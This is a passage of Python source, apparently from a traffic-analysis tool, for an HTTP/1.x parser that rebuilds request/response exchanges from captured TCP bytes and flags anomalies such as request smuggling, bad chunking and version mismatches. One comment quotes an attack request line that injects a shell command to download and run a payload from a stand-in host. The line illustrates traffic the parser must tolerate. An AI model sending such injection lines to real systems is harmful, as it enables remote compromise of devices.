"""HTTP/1.x stage: reassembled TCP bytes in, :class:`Exchange` records out (sans-I/O).

Theory of operation
-------------------
The TCP stage pushes each direction's in-order bytes with ``data()``, holes
with ``gap()`` and the end of a direction with ``end()``; the pipeline pulls
finished exchanges with ``exchanges()``. Nothing here reads a file or a clock.

Each direction has a reader, a state machine in h11's manner (the table
below): the request reader (ORIG) turns bytes into requests; the response
reader (RESP) gives each response to the oldest request still waiting for one,
since HTTP/1.1 answers in request order (RFC 9112 §9.3.2). A reader buffers
only a message head (start line and fields, at most ``HEAD_MAX`` bytes) or a
chunk-size/trailer line. Body bytes are counted, never copied: a body segment
costs a few Python operations whatever its length.

Speed. The stage costs a few microseconds per exchange because the usual
case is short: a whole head with CRLF line ends in one segment is found with
one search and split once (``_read_head``); start and field lines seen before
are looked up, not parsed again (``_remember``: messages repeat their lines);
a reader whose next head is the same text as its last reuses that parse; a
Content-Length body that came with its head is counted on the spot. Each
shortcut gives exactly what the general path would, which the whole-versus-
split tests check; anything unusual (bare LF, HTTP/0.9, a head spread over
segments, a field line that draws an anomaly) takes the general path.

An exchange is finished when both of its messages are finished or cut, and
``exchanges()`` hands them out in connection order. ``Exchange.ended`` says how
it finished: "complete"; "fin", "rst" (cut by the connection closing); "open"
(the capture ended first); "gap" (the capture lost bytes of it, or its framing
broke and we had to resynchronise); "tunnel" (CONNECT 2xx or 101: the rest of
the connection is opaque and nothing more is counted).

Errors. Helpers raise :class:`ParseError`; each public method of
:class:`HttpConnection` catches at one place (``_recover``), records the
anomaly and puts the reader into RESYNC, which scans later bytes for a
plausible message start: ``METHOD target HTTP/1.`` for requests,
``HTTP/1.x NNN`` for responses. Nothing raises out of this stage.

Anomaly names (Zeek's weird names where Zeek has one):

=================================  ==================================================
bad_HTTP_request                   unparseable request line; resync
bad_HTTP_reply                     unparseable status line; resync
unmatched_HTTP_reply               a response with no request waiting (method None)
HTTP_version_mismatch              a side changed its HTTP version mid-connection
HTTP_bad_chunk_size                chunk size not hex or above 2**63-1; resync
line_terminated_with_single_LF     a head uses bare LF line ends (tolerated)
HTTP_excessive_pipelining          over MAX_PENDING unanswered requests: oldest let go
unexpected_client_HTTP_data        client bytes after its end(), or too many while
unexpected_server_HTTP_data          paused for a CONNECT/Upgrade answer
HTTP_content_length_mismatch       FIN/RST before the Content-Length body was complete
HTTP_bad_content_length            invalid, negative, > 2**63-1 or conflicting values
HTTP_TE_and_CL                     Transfer-Encoding and Content-Length (TE wins)
HTTP_bad_transfer_encoding         request TE whose last coding is not chunked
HTTP_bad_header_line               field line without colon, or space before colon
HTTP_space_in_target               request target with spaces (attack traffic): kept as sent
HTTP_head_too_large                head or chunk line over HEAD_MAX bytes; resync
HTTP_chunk_missing_crlf            chunk data not followed by CRLF; resync
HTTP_content_gap                   a gap hit a head or chunk framing; resync
HTTP_reply_before_request          the first answer was captured before its request
HTTP_response_start_missing        server bytes that were no status line answered a
                                     request: it gets no answer, the next ones pair right
HTTP_truncated_head                the connection ended inside a message head
HTTP_internal_error                a bug in this module (should never appear)
TLS_not_decrypted                  the connection starts with TLS records: not read
HTTP2_not_parsed                   HTTP/2 (preface, or h2c upgrade): not read further
=================================  ==================================================
"""

from __future__ import annotations

import enum
import re
from collections.abc import Callable, Sequence
from typing import TypeVar

from ..model import ORIG, RESP, AnomalyLog, Exchange, from_fields

HEAD_MAX = 64 * 1024  # bytes of one head or chunk line we are willing to buffer
RESYNC_KEEP = 8 * 1024  # tail kept while scanning for a message start
MAX_LINE = RESYNC_KEEP - 64  # longest request line resync can recognise
MAX_PENDING = 100  # unanswered requests per connection (Zeek's default too)
EARLY_NS = 10_000_000  # an answer captured up to 10 ms before its request is its answer (see _ahead_of)
MAX_LENGTH = 2**63 - 1  # Content-Length and chunk sizes above this are overflow attempts

Fields = tuple[tuple[str, str], ...]
# A parsed head: start line, what it says (method, target, version or version,
# status, reason), fields, and the fields that frame the message (see _fields).
_Head = tuple[str, tuple, Fields, Fields]
_T = TypeVar("_T")
Warn = Callable[[str, str], None]


class State(enum.Enum):
    HEAD = "head"  # start line and fields of the next message
    LENGTH = "length"  # Content-Length body
    CHUNK_SIZE = "chunk-size"  # chunk-size line (RFC 9112 §7.1)
    CHUNK_DATA = "chunk-data"
    CHUNK_END = "chunk-end"  # the CRLF after chunk data
    TRAILER = "trailer"  # trailer fields after the last chunk
    CLOSE = "close"  # body delimited by the end of the connection
    PAUSED = "paused"  # client after CONNECT/Upgrade: waits for the answer
    RESYNC = "resync"  # lost framing: scanning for a message start
    TUNNEL = "tunnel"  # after CONNECT 2xx / 101: opaque, ignored
    CLOSED = "closed"  # end() was called

    # Enum's own __hash__ is Python code, and _goto() hashes on every
    # transition; members are singletons, so identity is enough.
    __hash__ = object.__hash__


# Rule 1 (h11's): every state change of a reader is listed here and _goto()
# checks it. Besides these, any live state may go to RESYNC (malformed input,
# gap), TUNNEL (the connection switched protocols) or CLOSED (end()).
_NEXT: dict[State, frozenset[State]] = {
    State.HEAD: frozenset(
        {State.HEAD, State.LENGTH, State.CHUNK_SIZE, State.CLOSE, State.PAUSED}
    ),
    State.LENGTH: frozenset({State.HEAD, State.PAUSED}),
    State.CHUNK_SIZE: frozenset({State.CHUNK_DATA, State.TRAILER}),
    State.CHUNK_DATA: frozenset({State.CHUNK_END}),
    State.CHUNK_END: frozenset({State.CHUNK_SIZE}),
    State.TRAILER: frozenset({State.HEAD, State.PAUSED}),
    State.CLOSE: frozenset(),  # only end() finishes a close-delimited body
    State.PAUSED: frozenset({State.HEAD}),  # the answer did not switch protocols
    State.RESYNC: frozenset({State.HEAD}),
    State.TUNNEL: frozenset(),
    State.CLOSED: frozenset(),
}
_ANYTIME = frozenset({State.RESYNC, State.TUNNEL, State.CLOSED})
_FINAL = frozenset({State.TUNNEL, State.CLOSED})

# The reader method for each state (h11's READERS table).
_READERS: dict[State, str] = {
    State.HEAD: "_read_head",
    State.LENGTH: "_read_length",
    State.CHUNK_SIZE: "_read_chunk_size",
    State.CHUNK_DATA: "_read_chunk_data",
    State.CHUNK_END: "_read_chunk_end",
    State.TRAILER: "_read_trailer",
    State.CLOSE: "_read_close",
    State.PAUSED: "_read_paused",
    State.RESYNC: "_read_resync",
    State.TUNNEL: "_read_tunnel",
    State.CLOSED: "_read_closed",
}


class Framing(enum.Enum):
    NO_BODY = "no-body"
    LENGTH = "length"
    CHUNKED = "chunked"
    CLOSE = "close"
    TUNNEL = "tunnel"


# Python 3.11 looks every Enum member up through EnumType.__getattr__ (some
# 70 ns for each State.HEAD; 3.12 caches them like other class attributes).
# The code run for every message uses these names instead.
_S_HEAD, _S_LENGTH, _S_PAUSED = State.HEAD, State.LENGTH, State.PAUSED
_F_NO_BODY, _F_LENGTH, _F_CHUNKED, _F_CLOSE, _F_TUNNEL = (
    Framing.NO_BODY, Framing.LENGTH, Framing.CHUNKED, Framing.CLOSE, Framing.TUNNEL)


class ParseError(Exception):
    """Malformed input: record ``name`` as an anomaly, then resynchronise.

    ``rescan`` holds bytes already consumed that may still hold a message start.
    """

    def __init__(self, name: str, detail: str = "", rescan: bytes = b"") -> None:
        super().__init__(name, detail)
        self.name = name
        self.detail = detail
        self.rescan = rescan


_TOKEN = r"[!#$%&'*+.^_`|~0-9A-Za-z-]+"  # RFC 9110 §5.6.2
_REQUEST_LINE = re.compile(rf"({_TOKEN}) ([^ ]+)(?: HTTP/([0-9]\.[0-9]))?")
# Attack traffic sends targets with spaces ("GET /shell?cd+/tmp;wget+ http://x/a;sh HTTP/1.1")
# and servers answer them: the target is all between the method and the version.
_SPACED_REQUEST_LINE = re.compile(rf"({_TOKEN}) (.*[^ ].*) HTTP/([0-9]\.[0-9])")
_STATUS_LINE = re.compile(r"HTTP/([0-9]\.[0-9]) ([0-9]{3})(?: (.*))?")
# Resync patterns, on raw bytes; methods are upper case in practice, which
# keeps random text from looking like a request.
_STATUS_START = re.compile(rb"HTTP/1\.[0-9] [0-9]{3}[ \r\n]")
_METHOD_TAIL = re.compile(rb"[A-Z][A-Z0-9_-]*\Z")
_HEX_DIGITS = b"0123456789abcdefABCDEF"
# What a connection's first bytes look like when it carries another protocol
# than HTTP/1.x: a TLS record (content type 20-23, version 3.x; also mid-stream,
# where application data records follow one another) and the HTTP/2 client
# preface (RFC 9113 §3.4, prior knowledge). Read as HTTP/1 they make garbage
# anomalies, or a "PRI *" request that was never one.
# A handshake record must hold a ClientHello or ServerHello (type 1 or 2), and a
# record is at most 2**14 + 2048 bytes long (RFC 8446 §5.2): a few bytes of
# garbage that happen to begin with 0x16 0x03 are still read as HTTP.
_TLS_RECORD = re.compile(
    rb"\x16\x03[\x00-\x04][\x00-\x48].[\x01\x02]|[\x14\x15\x17]\x03[\x00-\x04][\x00-\x48]", re.DOTALL)
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A server's first HTTP/2 frame is SETTINGS (type 4, flags 0, stream 0), maybe
# captured before the client's preface.
_H2_SETTINGS = re.compile(rb"\x00[\x00-\x01].\x04\x00\x00\x00\x00\x00", re.DOTALL)
# An HTTP/0.9 request line has no version, so anything "word word" would pass:
# require a method a client could have meant (Zeek only asks for 3 letters).
_SIMPLE_METHODS = frozenset(
    {"GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PATCH"}
)
# Fields that decide a message's framing, or whether the connection may
# switch protocols (lower case).
_FRAMING_NAMES = frozenset({"content-length", "transfer-encoding", "upgrade"})

# Start lines and field lines seen recently, parsed. Messages repeat their
# lines far more than they vary them (HPACK is built on that: the same Host,
# Server, Content-Type on every message of a connection, the same status line
# on most answers), and a dict lookup costs a fraction of a regex match or of
# partition, strip and lower. Only parse results that are pure functions of
# the line are kept (no anomalies, no context), only for short lines, and a
# table that fills up is emptied: memory stays bounded whatever the capture.
_MEMO_SIZE = 4096
_MEMO_LINE_MAX = 256
_REUSE_MAX = 4 * _MEMO_LINE_MAX  # longest head a reader remembers (see _read_head)
_REQUEST_LINES: dict[str, tuple[str, str, str]] = {}
_STATUS_LINES: dict[str, tuple[str, int, str]] = {}
_FIELD_LINES: dict[str, tuple[tuple[str, str], bool]] = {}


def _remember(memo: dict[str, _T], line: str, result: _T) -> _T:
    """Keep ``result`` as what ``line`` parses to, and return it.

    A full table is emptied rather than trimmed: cheaper than tracking use,
    and the lines that matter are back after a message or two.
    """
    if len(line) <= _MEMO_LINE_MAX:
        if len(memo) >= _MEMO_SIZE:
            memo.clear()
        memo[line] = result
    return result


# ---------------------------------------------------------------------------
# Message framing: RFC 9112 §6.3, one step at a time.


def body_framing(
    fields: Sequence[tuple[str, str]], method: str | None, status: int | None, warn: Warn
) -> tuple[Framing, int]:
    """How the body of a message is delimited; ``status`` is None for a request.

    ``fields`` may be all of the message's fields or just those _fields()
    picked out as framing ones: only Content-Length and Transfer-Encoding count.
    Returns ``(framing, length)``, the length only meaning something for
    Framing.LENGTH. Reference: RFC 9112 §6.3 "Message Body Length".
    """
    if status is not None:
        # A 101 switches protocols right after its empty line (RFC 9110 §15.2.2),
        # which step 1 would otherwise read as a plain 1xx.
        if status == 101:
            return _F_TUNNEL, 0
        # Step 1: a response to HEAD, or a 1xx, 204 or 304 response, ends at the
        # empty line after its fields, whatever they announce.
        if method == "HEAD" or status < 200 or status in (204, 304):
            return _F_NO_BODY, 0
        # Step 2: a 2xx answer to CONNECT turns the connection into a tunnel.
        if method == "CONNECT" and status < 300:
            return _F_TUNNEL, 0
    if not fields:  # no framing field at all: steps 7 and 8 below, without the search
        return (_F_NO_BODY if status is None else _F_CLOSE), 0
    lengths: list[str] = []
    codings: list[str] = []
    for name, value in fields:
        key = name.lower()
        if key == "content-length":
            lengths.append(value)
        elif key == "transfer-encoding":
            codings += [c.strip().lower() for c in value.split(",") if c.strip()]
    if codings:
        # Step 3: Transfer-Encoding overrides Content-Length; both together are
        # the classic request smuggling / response splitting shape.
        if lengths:
            warn("HTTP_TE_and_CL", f"TE {codings} with CL {lengths}")
        # Step 4: chunked must be the final coding. A response without it runs
        # until the connection closes; a request without it is answered 400
        # and the connection closed, so we read on as if it had no body.
        if codings[-1] == "chunked":
            return _F_CHUNKED, 0
        if status is not None:
            return _F_CLOSE, 0
        warn("HTTP_bad_transfer_encoding", ", ".join(codings))
        return _F_NO_BODY, 0
    if lengths:
        length = _content_length(lengths)
        # Step 5: an invalid Content-Length is an unrecoverable framing error.
        # A request then has no body we can trust (Zeek reads it as none, so
        # a smuggled request behind it shows up); a response is read to the
        # end of the connection, which is what a client would have received
        # (up to the answer to a later request, if one shows: _read_close_watching).
        if length is None:
            warn("HTTP_bad_content_length", ", ".join(lengths))
            return (_F_NO_BODY if status is None else _F_CLOSE), 0
        # Step 6: a valid Content-Length gives the body length.
        return _F_LENGTH, length
    # Step 7: a request with neither has no body.
    # Step 8: a response with neither runs until the connection closes.
    return (_F_NO_BODY if status is None else _F_CLOSE), 0


def _content_length(values: list[str]) -> int | None:
    """The one length that every Content-Length value agrees on, else None.

    Identical repeats ("5, 5") may be merged (RFC 9110 §8.6).
    """
    if len(values) == 1:
        text = values[0]
        if len(text) < 19 and text.isdigit() and text.isascii():
            return int(text)  # the usual single plain number, below 10**18
    seen = {part.strip() for value in values for part in value.split(",")}
    if len(seen) != 1:
        return None
    text = seen.pop()
    # isascii() first: str.isdigit() accepts digits like "²"; the length test
    # keeps int() away from huge strings.
    if not (text.isascii() and text.isdigit()) or len(text.lstrip("0")) > 19:
        return None
    if int(text) > MAX_LENGTH:
        return None
    return int(text)


def _bad_length(framing: Fields) -> bool:
    """Framing fields with Content-Length and no Transfer-Encoding: a body read to the close
    because that length was invalid."""
    names = {name.lower() for name, _ in framing}
    return "content-length" in names and "transfer-encoding" not in names


def _chunk_size(line: bytes) -> int:
    """The size in a chunk-size line, chunk extensions ignored (RFC 9112 §7.1)."""
    text = line.partition(b";")[0].rstrip(b" \t")
    if not text or text.translate(None, _HEX_DIGITS) or int(text, 16) > MAX_LENGTH:
        raise ParseError("HTTP_bad_chunk_size", repr(line[:40]))
    return int(text, 16)


# ---------------------------------------------------------------------------
# Heads: start lines and field lines.


def _other_protocol(data: bytes, pos: int) -> str | None:
    """The protocol that a connection's first bytes show, if it is not HTTP/1.x."""
    if _TLS_RECORD.match(data, pos):
        return "TLS"
    if data.startswith(H2_PREFACE[: max(4, min(len(data) - pos, len(H2_PREFACE)))], pos):
        return "HTTP/2"
    if _H2_SETTINGS.match(data, pos):
        return "HTTP/2"
    return None


def _upgrades_to_h2c(tx: _Tx) -> bool:
    """A 101 that switched to cleartext HTTP/2 (RFC 7540 §3.2): its Upgrade says h2c."""
    fields = tx.response_headers or tx.request_headers
    return any(name.lower() == "upgrade" and "h2c" in value.lower() for name, value in fields)


def _head_lines(head: bytes, warn: Warn) -> list[str]:
    """A head's lines without their ends; bare LF tolerated (RFC 9112 §2.2)."""
    text = head.decode("latin-1")
    if head.count(b"\n") == head.count(b"\r\n"):
        lines = text.split("\r\n")
    else:
        warn("line_terminated_with_single_LF", "")
        lines = [line.rstrip("\r") for line in text.split("\n")]
    while lines and not lines[-1]:
        lines.pop()
    return lines


def _request_line(line: str) -> tuple[str, str, str]:
    """(method, target, version); an HTTP/0.9 line has no version (RFC 1945 §4.1)."""
    m = _REQUEST_LINE.fullmatch(line)
    if m is None:
        raise ParseError("bad_HTTP_request", line[:80])
    method, target, version = m.groups()
    if version is None:
        if method not in _SIMPLE_METHODS:
            raise ParseError("bad_HTTP_request", line[:80])
        version = "0.9"
    return method, target, version


def _status_line(line: str) -> tuple[str, int, str]:
    """(version, status, reason) of a status line (RFC 9112 §4)."""
    m = _STATUS_LINE.fullmatch(line)
    if m is None or (status := int(m[2])) < 100:
        raise ParseError("bad_HTTP_reply", line[:80])
    return m[1], status, m[3] or ""


def _fields(lines: list[str], warn: Warn) -> tuple[Fields, Fields]:
    """Field lines as (name, value), in order, duplicates kept, names as sent.

    Also returns the fields in _FRAMING_NAMES, in order: what body_framing()
    and the Upgrade check need, without a second pass over every field.
    """
    fields: list[tuple[str, str]] = []
    framing: list[tuple[str, str]] = []
    known = _FIELD_LINES
    odd = False  # a line off the usual path: framing is picked again at the end
    for line in lines:
        usual = known.get(line)
        if usual is None:
            name, colon, value = line.partition(":")
            if colon and name and name[0] not in " \t" and name[-1] not in " \t":
                # The usual "Name: value", remembered for the next message.
                usual = (name, value.strip(" \t")), name.lower() in _FRAMING_NAMES
                _remember(known, line, usual)
            else:
                odd = True
                _odd_field_line(fields, line, name, colon, value, warn)
                continue
        field, frames = usual
        fields.append(field)
        if frames:
            framing.append(field)
    if odd:  # a fold may have changed a value picked out above
        framing = [field for field in fields if field[0].lower() in _FRAMING_NAMES]
    # Tuples: a reader keeps the last head's, and a tuple of strings is no
    # work for the garbage collector once it has seen it.
    return tuple(fields), tuple(framing) if framing else ()


def _odd_field_line(
    fields: list[tuple[str, str]], line: str, name: str, colon: str, value: str, warn: Warn
) -> None:
    """A field line other than "Name: value": a fold or a malformed line."""
    if line and line[0] in " \t":
        # obs-fold (RFC 9112 §5.2): a continuation of the previous value.
        if fields:
            name, value = fields[-1]
            fields[-1] = (name, value + " " + line.strip(" \t"))
        else:
            warn("HTTP_bad_header_line", line[:80])
        return
    # RFC 9112 §5.1: no whitespace between name and colon. We keep such a
    # field as sent, so "Transfer-Encoding :" does not frame the message,
    # which is what a compliant server does (it rejects the request).
    warn("HTTP_bad_header_line", line[:80])
    if colon and name:
        fields.append((name, value.strip(" \t")))


def _blank_line_end(buf: bytes | bytearray, start: int) -> int:
    """Index just after the empty line ending a head that starts at ``start``, or -1.

    That is the first LF CRLF or LF LF at or after ``start``.
    """
    # The usual head ends in CRLF CRLF with no bare LF before it. Searching
    # for that first keeps "\n\n" from being looked for through the body
    # that follows; the bounded searches check that no bare-LF end came first.
    end = buf.find(b"\r\n\r\n", start)
    if end >= 0 and buf.find(b"\n\n", start, end) < 0 and buf.find(b"\n\r\n", start, end + 2) < 0:
        return end + 4
    crlf = buf.find(b"\n\r\n", start)
    lf = buf.find(b"\n\n", start)
    if crlf < 0:
        return lf + 2 if lf >= 0 else -1
    if lf < 0 or crlf < lf:
        return crlf + 3
    return lf + 2


# ---------------------------------------------------------------------------
# Exchanges being assembled.


class _Tx:
    """One exchange in the making (mutable; private to this stage)."""

    __slots__ = (
        "body", "done", "end_ns", "ended", "index", "interim", "method", "reason",
        "request_headers", "response_headers", "response_version", "start_frame",
        "start_ns", "status", "switches", "uri", "version",
    )

    def __init__(self, index: int) -> None:
        self.index = index
        self.method: str | None = None
        self.uri: str | None = None
        self.version: str | None = None
        self.request_headers: Fields = ()
        self.status: int | None = None
        self.reason: str | None = None
        self.response_version: str | None = None
        self.response_headers: Fields = ()
        self.interim: tuple[int, ...] = ()  # rare, so a tuple: nothing to build per exchange
        # Indexed by direction, ORIG then RESP.
        self.body = [0, 0]
        self.start_ns: list[int | None] = [None, None]
        self.start_frame: list[int | None] = [None, None]
        self.end_ns: list[int | None] = [None, None]
        self.done = [False, False]
        self.ended: str | None = None  # how it was cut; None while not cut
        self.switches = False  # CONNECT or Upgrade: the client waits for the answer

    def cut(self, ended: str) -> None:
        """Remember the first way this exchange was cut short."""
        if self.ended is None:
            self.ended = ended

    def freeze(self, conn_id: int, ended: str) -> Exchange:
        # Every field, in Exchange's order (model.from_fields): this runs once per exchange.
        request_start_ns, response_start_ns = self.start_ns
        request_end_ns, response_end_ns = self.end_ns
        request_frame, response_frame = self.start_frame
        request_body_len, response_body_len = self.body
        return from_fields(Exchange, (
            conn_id,
            self.index,
            self.method,
            self.uri,
            # The request's version; a response without a request gives its own.
            self.version or self.response_version,
            self.request_headers,
            self.status,
            self.reason,
            self.response_headers,
            self.interim,
            request_body_len,
            response_body_len,
            request_start_ns,
            request_end_ns,
            response_start_ns,
            response_end_ns,
            request_frame,
            response_frame,
            ended,
        ))


# ---------------------------------------------------------------------------
# Readers: one state machine per direction.


class _Reader:
    """What both directions share: body counting, lines, gaps, end, resync.

    ``feed`` consumes ``data`` from ``self.pos``; a step that raises ParseError
    has already moved ``pos`` past the bytes it rejects.
    """

    __slots__ = (
        "_step", "buf", "conn", "data_ts", "direction", "frame", "head_frame", "head_ts",
        "last_head", "last_raw", "one_line_unless", "parse_start_line", "pos", "remaining",
        "start_lines", "state", "ts", "tx", "version", "warned",
    )

    def __init__(self, conn: HttpConnection, direction: int) -> None:
        self.conn = conn
        self.direction = direction
        self.state = State.HEAD
        self._step: Callable[[bytes], None] = self._read_first
        self.buf = bytearray()  # a head or line not complete yet; resync tail
        self.pos = 0  # position in the chunk being fed
        self.ts = 0  # ts_ns and frame of the current event, for anomalies
        self.frame = 0
        self.data_ts = 0  # ts_ns of the last byte seen, for *_end_ns
        self.remaining = 0  # body or chunk bytes still to come
        self.tx: _Tx | None = None  # whose message is being read (after its head)
        self.head_ts = 0  # where the head being buffered started
        self.head_frame = 0
        self.version: str | None = None  # last version seen, for HTTP_version_mismatch
        self.warned = 0  # anomalies recorded so far
        # The last head parsed without remark, and its bytes (see _read_head).
        self.last_raw: bytes | None = None
        self.last_head: _Head | None = None
        # Set per direction: _read_head's shortcut takes a head to end at
        # CRLF CRLF only if its first line contains one_line_unless; the start
        # line's parser, and what it said about recent lines.
        self.one_line_unless = ""
        self.parse_start_line: Callable[[str], tuple]
        self.start_lines: dict[str, tuple]

    # -- bookkeeping

    def _goto(self, state: State) -> None:
        old = self.state
        assert state in _NEXT[old] or (state in _ANYTIME and old not in _FINAL), (old, state)
        self.state = state
        self._step = getattr(self, _READERS[state])

    def _warn(self, name: str, detail: str = "") -> None:
        self.warned += 1
        self.conn._anomaly(name, self.frame, self.ts, detail)

    def _check_version(self, version: str) -> None:
        if self.version is not None and version != self.version:
            self._warn("HTTP_version_mismatch", f"{self.version} then {version}")
        self.version = version

    def _finish(self, ended: str | None) -> None:
        """The current message is over: complete (None) or cut (how)."""
        tx = self.tx
        assert tx is not None
        self.tx = None
        if ended is not None:
            tx.cut(ended)
        if tx.start_ns[self.direction] is not None:
            tx.end_ns[self.direction] = self.data_ts
        tx.done[self.direction] = True
        self._finished(tx)

    def _complete(self) -> None:
        """The message ended where its framing said: on to the next one."""
        # _finish(None) inlined: this runs for every message.
        tx = self.tx
        assert tx is not None
        self.tx = None
        direction = self.direction
        if tx.start_ns[direction] is not None:
            tx.end_ns[direction] = self.data_ts
        tx.done[direction] = True
        self._finished(tx)
        state = self._next_state(tx)
        if state is not self.state:  # HEAD after HEAD: nothing to change
            self._goto(state)

    def _start_body(self, framing: Framing, length: int, data: bytes) -> None:
        """Read the body as ``framing`` says; ``data`` holds the head just read."""
        if framing is _F_LENGTH and length:
            if self.pos + length <= len(data):
                # The whole body came with its head (small answers usually
                # do): count it and be done, without a stay in LENGTH.
                tx = self.tx
                assert tx is not None
                tx.body[self.direction] += length
                self.pos += length
                self._complete()
                return
            self.remaining = length
            self._goto(_S_LENGTH)
        elif framing is _F_CHUNKED:
            self._goto(State.CHUNK_SIZE)
        elif framing is _F_CLOSE:
            self._goto(State.CLOSE)
        else:
            self._complete()

    # -- per direction (overridden)

    def _head_end(self, buf: bytes | bytearray, start: int) -> int:
        return _blank_line_end(buf, start)

    def _on_head(self, head: _Head, data: bytes) -> None:
        raise NotImplementedError

    def _parse_head(self, head: _Head) -> _Tx | None:
        raise NotImplementedError

    def _finished(self, tx: _Tx) -> None:
        """A message of ``tx`` in this direction is over."""

    def _next_state(self, tx: _Tx) -> State:
        return _S_HEAD

    def _lost_head(self) -> None:
        """A gap hit this direction between or inside heads."""

    def _ended(self, cut: str) -> None:
        """This direction has ended; ``cut`` is how unfinished messages end."""

    # -- state readers

    def feed(self, data: bytes) -> None:
        n = len(data)
        while self.pos < n:
            self._step(data)

    def _read_first(self, data: bytes) -> None:
        """This direction's first bytes: is the connection HTTP/1 at all?"""
        conn = self.conn
        if not conn._count and len(data) - self.pos == 1 and data[self.pos] == 0:
            # A Windows keep-alive probe (one garbage byte, 0, at the next byte - 1) as the first
            # segment of a direction picked up mid-stream: the TCP stage cannot tell it from data.
            self.pos = len(data)
            return
        self._step = self._read_head
        if not conn._count and (protocol := _other_protocol(data, self.pos)):
            self.pos = len(data)
            conn._not_http(self, protocol)
            return
        self._read_head(data)

    def _read_head(self, data: bytes) -> None:
        buf = self.buf
        remember = False  # whether the head may be remembered for the next one
        head = None
        if buf:  # the head began in an earlier segment
            old = len(buf)
            buf += memoryview(data)[self.pos :]
            end = self._head_end(buf, 0)
            if end < 0:
                self.pos = len(data)
                self._check_head_size()
                return
            raw, start = bytes(buf[:end]), 0  # the head's bytes are raw[start:end]
            buf.clear()
            self.pos += end - old
            lines = _head_lines(raw, self._warn)
        else:
            start, n = self.pos, len(data)
            # RFC 9112 §2.2: ignore empty lines before a message (some clients
            # send a CRLF after a POST body).
            while start < n and data[start] in b"\r\n":
                start += 1
            self.pos = start
            if start == n:
                return
            self.head_ts, self.head_frame = self.ts, self.frame
            raw = data
            last = self.last_raw
            if last is not None and data.startswith(last, start):
                # Keep-alive connections repeat their heads (a client polling
                # one URL, a health checker, a server answering alike). These
                # are the bytes, CRLF CRLF included, of the last head that the
                # shortcut below took: the same head, and its parse holds.
                head = self.last_head
                end = start + len(last)
            else:
                # The usual case, a whole head with CRLF line ends in this
                # segment, costs one search and one split. It is exactly what
                # _head_end and _head_lines would make of it: with no bare LF
                # before the first CRLF CRLF, no LF LF or LF CRLF comes first.
                end = data.find(b"\r\n\r\n", start)
                if end >= 0:
                    text = data[start:end].decode("latin-1")
                    lines = text.split("\r\n")
                    if text.count("\n") == len(lines) - 1 and self.one_line_unless in lines[0]:
                        end += 4
                        remember = end - start <= _REUSE_MAX
                    else:
                        end = -1
            if end < 0:  # anything else: bare LFs, HTTP/0.9, a head not complete yet
                end = self._head_end(data, start)
                if end < 0:
                    buf += memoryview(data)[start:]
                    self.pos = n
                    self._check_head_size()
                    return
                lines = _head_lines(data[start:end], self._warn)
            self.pos = end
        try:
            if head is None:
                warned = self.warned
                head = self._parse_lines(lines)
                # Remember a head that parsed without remark, for the next one.
                if remember and self.warned == warned:
                    self.last_raw, self.last_head = raw[start:end], head
            self._on_head(head, data)
        except ParseError as e:
            # A bad start line may hide a real message start on a later line
            # ("junk" then "HTTP/1.1 200 OK"): look again from the next line.
            # (A head always ends with LF, so there is one to find.) Or on the
            # same line, after a binary prefix (a SOCKS handshake, then GET).
            lf = raw.find(b"\n", start, end)
            inner = self._start_inside(raw[start + 1 : lf]) if e.name.startswith("bad_HTTP") else -1
            e.rescan = raw[(start + 1 + inner if inner >= 0 else lf + 1) : end]
            raise

    def _start_inside(self, line: bytes) -> int:
        """Where a message starts inside a rejected start line, or -1."""
        return self._find_start(line, 0)

    def _parse_lines(self, lines: list[str]) -> _Head:
        """A head's start line, parsed, and fields; raises ParseError for a bad start line."""
        line = lines[0]
        known = self.start_lines
        start = known.get(line) or self._start_line(line)
        fields, framing = _fields(lines[1:], self._warn)
        return line, start, fields, framing

    def _start_line(self, line: str) -> tuple:
        """A start line not seen lately, parsed and remembered."""
        return _remember(self.start_lines, line, self.parse_start_line(line))

    def _check_head_size(self) -> None:
        if len(self.buf) > HEAD_MAX:
            # Keep what the complete lines say (the answer, a 431 say, still
            # pairs with it), then look for the next message.
            self._warn("HTTP_head_too_large", f"over {HEAD_MAX} bytes")
            self._cut_head("gap")
            self.resync()

    def _take_line(self, data: bytes) -> bytes | None:
        """The next line without its end, or None when it is not complete yet."""
        pos = self.pos
        lf = data.find(b"\n", pos)
        if lf < 0:
            self.buf += memoryview(data)[pos:]
            self.pos = len(data)
            if len(self.buf) > HEAD_MAX:
                self.buf.clear()
                raise ParseError("HTTP_head_too_large", f"line over {HEAD_MAX} bytes")
            return None
        self.pos = lf + 1
        if self.buf:
            self.buf += memoryview(data)[pos:lf]
            line = bytes(self.buf)
            self.buf.clear()
        else:
            line = data[pos:lf]
        return line[:-1] if line.endswith(b"\r") else line

    def _take_body(self, data: bytes) -> bool:
        """Count body bytes up to ``remaining``; True once it is reached."""
        tx = self.tx
        assert tx is not None
        avail = len(data) - self.pos
        if avail < self.remaining:
            self.remaining -= avail
            tx.body[self.direction] += avail
            self.pos = len(data)
            return False
        tx.body[self.direction] += self.remaining
        self.pos += self.remaining
        self.remaining = 0
        return True

    def _read_length(self, data: bytes) -> None:
        # _take_body() inlined: this runs for every Content-Length body.
        tx = self.tx
        assert tx is not None
        avail = len(data) - self.pos
        if avail < self.remaining:
            self.remaining -= avail
            tx.body[self.direction] += avail
            self.pos = len(data)
            return
        tx.body[self.direction] += self.remaining
        self.pos += self.remaining
        self.remaining = 0
        self._complete()

    def _read_chunk_size(self, data: bytes) -> None:
        line = self._take_line(data)
        if line is None:
            return
        self.remaining = _chunk_size(line)
        self._goto(State.CHUNK_DATA if self.remaining else State.TRAILER)

    def _read_chunk_data(self, data: bytes) -> None:
        if self._take_body(data):
            self._goto(State.CHUNK_END)

    def _read_chunk_end(self, data: bytes) -> None:
        line = self._take_line(data)
        if line is None:
            return
        if line:
            raise ParseError("HTTP_chunk_missing_crlf", repr(line[:40]))
        self._goto(State.CHUNK_SIZE)

    def _read_trailer(self, data: bytes) -> None:
        # Trailer fields are skipped: Exchange has no place for them.
        while (line := self._take_line(data)) is not None:
            if not line:
                self._complete()
                return

    def _read_close(self, data: bytes) -> None:
        tx = self.tx
        assert tx is not None
        tx.body[self.direction] += len(data) - self.pos
        self.pos = len(data)

    def _read_paused(self, data: bytes) -> None:
        raise NotImplementedError  # only the request reader pauses

    def _read_resync(self, data: bytes) -> None:
        buf = self.buf
        old = len(buf)
        buf += memoryview(data)[self.pos :]
        start = self._find_start(buf, max(0, old - 16))
        if start < 0:
